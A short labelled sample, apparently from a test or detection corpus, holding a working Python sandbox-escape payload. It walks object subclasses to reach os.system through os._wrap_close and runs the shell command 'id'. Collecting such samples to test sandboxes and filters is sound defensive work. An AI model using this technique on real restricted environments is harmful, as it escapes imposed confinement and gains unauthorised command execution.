# category: escape
# obfuscated: yes
base = ().__class__.__bases__[0]
for sub in base.__subclasses__():
    if "wrap_close" in sub.__name__:
        sub.__init__.__globals__["system"]("id")
